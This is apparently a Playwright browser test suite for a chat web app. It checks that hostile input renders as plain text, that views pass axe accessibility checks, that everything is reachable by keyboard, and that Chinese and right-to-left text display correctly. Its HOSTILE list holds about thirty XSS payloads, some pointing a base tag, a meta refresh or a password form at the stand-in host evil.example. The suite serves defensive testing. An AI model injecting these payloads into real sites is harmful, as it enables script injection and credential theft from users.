"""How the page treats what people write, and how it treats people: hostile text, accessibility, keys, languages."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import NewPerson
from tests.browser.load import new_account
from tests.browser.person import WITHIN_MS, Person
from tests.conversations.server import ServerProcess
from tests.services.service import in_ci

AXE = Path(__file__).resolve().parents[2] / "node_modules" / "axe-core" / "axe.min.js"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/%0d%0aX: y)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<template><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u202e<tpircs>\u202c",
    "a\u0000<script>alert(1)</script>",
    "**<b onmouseover=alert(1)>bold</b>**",
]
INJECTED = """() => [...document.querySelectorAll(
  "#app script, #app iframe, #app object, #app embed, #app base, #app meta, #app style, #app form[action], #app template"
)].map(each => each.outerHTML).concat(
  [...document.querySelectorAll("#app *")].flatMap(each => [...each.attributes]
    .filter(({ name, value }) => name.startsWith("on")
      || (/^(href|src|action)$/.test(name) && !/^(#|\\/|https?:|mailto:)/.test(value)))
    .map(({ name, value }) => `${name}=${value}`)),
)"""


async def test_hostile_text_shows_as_text(server: ServerProcess, new_person: NewPerson):
    """In messages, names and titles of groups: nothing of it becomes an element, an attribute or a script."""
    ada = await new_person()
    dialogs: list[str] = []
    ada.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await ada.register(nickname="<img src=x onerror=alert(1)>")
    eve = await new_account(server.url, nickname="<script>alert(1)</script>")
    (found,) = (await eve.call("GET", f"/users?query={ada.username}"))["items"]
    body = {"name": '"><svg onload=alert(1)>', "member_ids": [found["user_id"]]}
    group_id = (await eve.call("POST", "/groups", body))["group"]["group_id"]
    await eve.send_all(HOSTILE, group_id=group_id)
    await eve.send_all(HOSTILE, to_user_id=found["user_id"])

    for title in ("<svg onload", "<script>alert"):
        await ada.open(title)
        rows = ada.page.locator("article.row[data-seq]")
        await expect(rows).to_have_count(len(HOSTILE), timeout=WITHIN_MS)
        assert await ada.page.evaluate(INJECTED) == []
        texts = await ada.texts()
        assert HOSTILE[0] in texts
        assert HOSTILE[1] in texts
    await ada.page.locator(".chat-who").click()
    await expect(ada.page.get_by_role("dialog")).to_contain_text("<script>alert(1)</script>")
    await ada.page.wait_for_timeout(300)  # for what would run a moment later
    assert dialogs == []
    assert await ada.page.evaluate(INJECTED) == []


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_main_views_have_no_accessibility_violations(
    server: ServerProcess, new_person: NewPerson, scheme: str, width: int
):
    """Axe finds nothing, in both themes, on a phone and on a desktop."""
    if not AXE.exists():
        assert not in_ci(), f"{AXE} is missing: npm ci"
        pytest.skip("axe-core is not installed: npm ci")
    # The policy lets no foreign script in, axe neither: here alone it is set aside.
    ada = await new_person(
        bypass_csp=True,
        color_scheme=scheme,
        viewport={"width": width, "height": 800},
        reduced_motion="reduce",
    )
    found: dict[str, list[str]] = {}

    async def look(view: str) -> None:
        await ada.page.evaluate(AXE.read_text(encoding="utf-8"))
        answer = await ada.page.evaluate("axe.run()")
        problems = [
            f"{each['id']}: {node['target']} {node['failureSummary']}"
            for each in answer["violations"]
            for node in each["nodes"]
        ]
        if problems:
            found[view] = problems

    await ada.page.goto(server.url)
    await ada.page.get_by_label("Username").wait_for()
    await look("log in")
    await ada.page.get_by_role("button", name="Create account").click()
    await look("create account")
    await ada.register(nickname="Ada Lovelace")
    await look("no conversations")
    await furnish(server, ada)
    await expect(ada.row("Eve")).to_be_visible(timeout=WITHIN_MS)
    await look("conversations")
    await ada.open("Eve")
    await ada.sees("a long word")
    await look("private chat")
    await at_home(ada)
    await ada.open("Friday lunch")
    await ada.say("an answer with **weight** and `code`")
    await ada.has_tick("an answer", "Sent|Delivered|Read")
    await ada.page.wait_for_timeout(400)  # what axe finds while rows change places is gone in the next frame
    await look("group")
    await ada.page.locator(".chat-who").click()
    await expect(ada.page.get_by_role("dialog")).to_contain_text("Eve Example", timeout=WITHIN_MS)
    await look("group details")
    await ada.page.keyboard.press("Escape")
    await at_home(ada)
    await ada.page.get_by_role("button", name="Menu").click()
    await look("menu")
    await ada.page.keyboard.press("Escape")
    for name in ("Profile", "Devices", "Settings", "Keyboard shortcuts"):
        await ada.page.get_by_role("button", name="Menu").click()
        await ada.page.get_by_role("menuitem", name=name).click()
        await ada.page.get_by_role("dialog").wait_for()
        await ada.page.wait_for_timeout(200)  # lists of it come from the server
        await look(name)
        await ada.page.keyboard.press("Escape")
        await expect(ada.page.get_by_role("dialog")).to_have_count(0)
    for name in ("New chat", "New group"):
        await ada.page.get_by_role("button", name=name).first.click()
        await ada.page.get_by_role("dialog").get_by_role("combobox").wait_for()
        await look(name)
        await ada.page.keyboard.press("Escape")
    assert not found, "\n".join(f"{view}: {each}" for view, problems in found.items() for each in problems)


async def furnish(server: ServerProcess, person: Person) -> None:
    """Give somebody a private chat and a group to look at."""
    eve = await new_account(server.url, nickname="Eve Example")
    (found,) = (await eve.call("GET", f"/users?query={person.username}"))["items"]
    texts = [
        "hello",
        "# a heading\n\n- one\n- two\n\n> quoted",
        "```python\nprint('hello')\n```",
        "a long word " + "x" * 200,
    ]
    await eve.send_all(texts, to_user_id=found["user_id"])
    body = {"name": "Friday lunch", "member_ids": [found["user_id"]]}
    group_id = (await eve.call("POST", "/groups", body))["group"]["group_id"]
    await eve.send_all(["twelve o'clock?", "https://example.org is where"], group_id=group_id)


async def at_home(person: Person) -> None:
    """Go to the list of conversations."""
    await person.page.evaluate("location.hash = '#/'")
    await expect(person.page.get_by_role("button", name="Menu")).to_be_visible(timeout=WITHIN_MS)


async def test_everything_is_reached_by_keys(server: ServerProcess, new_person: NewPerson):
    """Find a conversation, write, edit, reply, react, look at the shortcuts, begin a chat: the pointer is never used.

    The search has the focus when the key's own event is over: what is typed next may come before the next frame.
    """
    ada = await new_person()
    await ada.register()
    await furnish(server, ada)
    await expect(ada.row("Eve")).to_be_visible(timeout=WITHIN_MS)
    keys = ada.page.keyboard

    focused_at_once = await ada.page.evaluate(
        "dispatchEvent(new KeyboardEvent('keydown', { key: 'k', ctrlKey: true })), document.activeElement.id"
    )
    await ada.page.evaluate("document.activeElement.blur()")
    await keys.press("Control+k")
    await keys.type("Eve")
    await keys.press("Enter")
    assert focused_at_once == "search"
    await expect(ada.composer).to_be_focused(timeout=WITHIN_MS)
    await keys.type("by keys")
    await keys.press("Enter")
    await ada.has_tick("by keys", "Delivered|Sent")
    await keys.press("ArrowUp")
    await expect(ada.page.get_by_text("Editing message")).to_be_visible(timeout=WITHIN_MS)
    await keys.type(" alone")
    await keys.press("Enter")
    await ada.sees("by keys alone")
    await reply_and_react_by_keys(ada)
    await keys.press("Alt+ArrowDown")
    await expect(ada.page.get_by_role("heading", name="Friday lunch")).to_be_visible(timeout=WITHIN_MS)
    await keys.press("Control+/")
    await expect(ada.page.get_by_role("dialog")).to_contain_text("Ctrl")
    await keys.press("Escape")
    await keys.press("Alt+n")
    await expect(ada.page.get_by_role("dialog").get_by_role("combobox")).to_be_focused(timeout=WITHIN_MS)
    await keys.press("Escape")
    await expect(ada.page.get_by_role("dialog")).to_have_count(0)
    assert await focus_is_visible(ada.page)


async def reply_and_react_by_keys(ada: Person) -> None:
    """Come from the field to the messages, answer one, put a reaction on it by its menu, and come back."""
    keys = ada.page.keyboard
    await keys.press("Shift+Tab")  # the button for emoji stands between
    await keys.press("Shift+Tab")
    await expect(ada.message("by keys alone")).to_be_focused()
    await keys.press("ArrowUp")
    await expect(ada.message("a long word")).to_be_focused()
    for key in ("Enter", "Shift+F10"):
        await keys.press(key)
        await expect(ada.page.get_by_role("menu")).to_be_visible()
        await keys.press("Escape")
        await expect(ada.message("a long word")).to_be_focused()
    await keys.press("+")
    await keys.press("ArrowDown")
    await keys.press("Enter")
    await expect(ada.message("a long word")).to_contain_text("❤️", timeout=WITHIN_MS)
    await expect(ada.message("a long word")).to_be_focused()
    await keys.press("r")
    await expect(ada.composer).to_be_focused()
    await keys.type("an answer")
    await keys.press("Enter")
    await expect(ada.message("an answer").locator(".quote")).to_contain_text("a long word", timeout=WITHIN_MS)
    await ada.page.locator(".shell-skip").focus()
    await keys.press("Enter")
    await expect(ada.message("a long word").first).to_be_focused()


async def focus_is_visible(page: Page) -> bool:
    """Tell whether each of the next elements that Tab reaches shows that it has the focus."""
    for _ in range(8):
        await page.keyboard.press("Tab")
        shown: Any = await page.evaluate(
            "() => { const e = document.activeElement, s = getComputedStyle(e);"
            " return e === document.body || e.matches('textarea, input')"
            " || s.outlineStyle !== 'none' || s.boxShadow !== 'none'; }"
        )
        if not shown:
            print(await page.evaluate("document.activeElement.outerHTML"))
            return False
    return True


async def test_chinese_and_right_to_left(server: ServerProcess, new_person: NewPerson):
    """The page speaks the browser's language, and each text has its own direction."""
    ada = await new_person(locale="zh-CN")
    await ada.page.goto(server.url)
    await expect(ada.page.get_by_role("button", name="登录")).to_be_visible(timeout=WITHIN_MS)
    assert (await ada.page.evaluate("document.documentElement.lang")).startswith("zh")

    bob = await new_person("bob")
    await bob.register()
    eve = await new_account(server.url)
    (found,) = (await eve.call("GET", f"/users?query={bob.username}"))["items"]
    await eve.send_all(["שלום לכולם", "你好，世界", "hello"], to_user_id=found["user_id"])
    await bob.open(eve.username)
    await bob.sees("שלום לכולם")
    directions = await bob.page.locator("article.row [dir=auto]").evaluate_all(
        "all => all.map(each => getComputedStyle(each).direction)"
    )
    assert directions == ["rtl", "ltr", "ltr"]
